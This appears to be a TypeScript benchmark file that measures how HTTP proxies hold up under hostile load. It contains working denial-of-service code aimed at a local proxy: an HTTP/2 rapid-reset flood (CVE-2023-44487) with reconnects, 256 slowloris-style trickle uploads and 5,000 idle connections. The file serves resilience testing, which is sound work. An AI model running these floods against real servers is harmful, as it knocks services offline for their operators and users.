// Hostile-load scenarios (issue 15): while an attack runs against a proxy, a well-behaved client
// sends at a fixed rate and we record its latency (p99, from the intended send time) and how
// many of its requests failed, plus the proxy's RSS at the end of the attack. Attacks:
//   rapid-reset — 4 h2c connections sending HEADERS + RST_STREAM pairs in batches, reconnecting
//                 whenever the proxy closes them (CVE-2023-44487); only proxies that speak h2c
//                 prior knowledge on the port (meshlet, haproxy);
//   slow-uploads — 256 connections each announcing a 1 MB POST body and sending one byte a second;
//   idle — 5 000 connections opened and left silent.
// The attackers run in the generator's process: the well-behaved client's figures include that
// load on the generator, alike for every proxy.
import net from 'node:net';
import { runOpenLoop, type OpenLoopResult } from './open-loop.ts';
import { rssOf, processTree } from './proc-stats.ts';
import type { Live } from './configs.ts';
// The tests' frame builders: the attack sends exactly the frames the hardening tests prove are
// handled (DESIGN.md lets bench/ import test/support/, as bench/control-plane does).
import { cancelFrame, CLIENT_PREFACE, getRequestBlock, headersFrame } from '../../test/support/h2-frames.ts';

export type AttackId = 'none' | 'rapid-reset' | 'slow-uploads' | 'idle';
export const ATTACKS: AttackId[] = ['none', 'rapid-reset', 'slow-uploads', 'idle'];

export interface HostileResult {
  config: string;
  attack: AttackId;
  /** The well-behaved client during the attack. */
  p99Ms: number;
  ok: number;
  errors: number;
  /** The proxy's processes, MB, at the end of the attack. */
  rssMB: number;
  /** What the attacker managed: streams sent, connections held. */
  attackerNote: string;
}

interface Attack { stop(): void; note(): string }

function rapidReset(port: number, host: string): Attack {
  const block = getRequestBlock(host);
  let stopped = false;
  let streams = 0;
  let connections = 0;
  const sockets = new Set<net.Socket>();
  const connect = (): void => {
    if (stopped) return;
    connections++;
    const s = net.connect(port, '127.0.0.1');
    sockets.add(s);
    s.on('error', () => undefined);
    s.on('data', () => undefined);
    s.on('close', () => {
      sockets.delete(s);
      // Reconnect a little later, as an attacker would.
      setTimeout(connect, 10);
    });
    s.write(CLIENT_PREFACE);
    let id = 1;
    const batch = (): void => {
      if (stopped || s.destroyed) return;
      const out: Buffer[] = [];
      for (let i = 0; i < 50 && id < 2 ** 31 - 2; i++, id += 2) out.push(headersFrame(id, block), cancelFrame(id));
      streams += out.length / 2;
      if (s.write(Buffer.concat(out))) setTimeout(batch, 2);
      else s.once('drain', batch);
    };
    batch();
  };
  for (let i = 0; i < 4; i++) connect();
  return {
    stop: () => {
      stopped = true;
      for (const s of sockets) s.destroy();
    },
    note: () => `${streams} streams reset on ${connections} connections`,
  };
}

function slowUploads(port: number, host: string, n = 256): Attack {
  const sockets: net.Socket[] = [];
  let bytes = 0;
  for (let i = 0; i < n; i++) {
    const s = net.connect(port, '127.0.0.1');
    s.on('error', () => undefined);
    s.on('data', () => undefined);
    s.write(`POST /echo/12 HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 1000000\r\n\r\nx`);
    sockets.push(s);
  }
  const tick = setInterval(() => {
    for (const s of sockets) if (!s.destroyed) {
      s.write('x');
      bytes++;
    }
  }, 1_000);
  return {
    stop: () => {
      clearInterval(tick);
      for (const s of sockets) s.destroy();
    },
    note: () => `${sockets.filter((s) => !s.destroyed).length}/${n} uploads still open, ${bytes} bytes sent`,
  };
}

function idle(port: number, n = 5_000): Attack {
  const sockets: net.Socket[] = [];
  for (let i = 0; i < n; i++) {
    const s = net.connect(port, '127.0.0.1');
    s.on('error', () => undefined);
    sockets.push(s);
  }
  return {
    stop: () => {
      for (const s of sockets) s.destroy();
    },
    note: () => `${sockets.filter((s) => !s.destroyed && !s.connecting).length}/${n} connections open`,
  };
}

export interface HostileSpec {
  config: string;
  live: Live;
  attack: AttackId;
  host: string;
  request: Buffer;
  rate: number;
  durationMs: number;
  /** Time the attack runs before the well-behaved client starts. */
  rampMs: number;
}

export async function measureHostile(spec: HostileSpec): Promise<HostileResult> {
  const { port } = spec.live;
  const attack: Attack | null = spec.attack === 'rapid-reset' ? rapidReset(port, spec.host)
    : spec.attack === 'slow-uploads' ? slowUploads(port, spec.host)
      : spec.attack === 'idle' ? idle(port) : null;
  let res: OpenLoopResult;
  let rss: number;
  let note: string;
  try {
    await new Promise((r) => setTimeout(r, spec.rampMs));
    res = await runOpenLoop({ host: '127.0.0.1', port, request: spec.request, rate: spec.rate, durationMs: spec.durationMs, warmupMs: 200, maxConnections: 16, spin: 'near-send' });
    const pids = spec.live.procs.flatMap((p) => processTree(p.pid));
    rss = pids.length > 0 ? rssOf(pids) : 0;
    note = attack?.note() ?? '';
  } finally {
    attack?.stop();
  }
  return {
    config: spec.config, attack: spec.attack, p99Ms: res.latencyUs.p99 / 1000, ok: res.ok, errors: res.errors,
    rssMB: Math.round(rss / 1024 / 1024 * 10) / 10, attackerNote: note,
  };
}
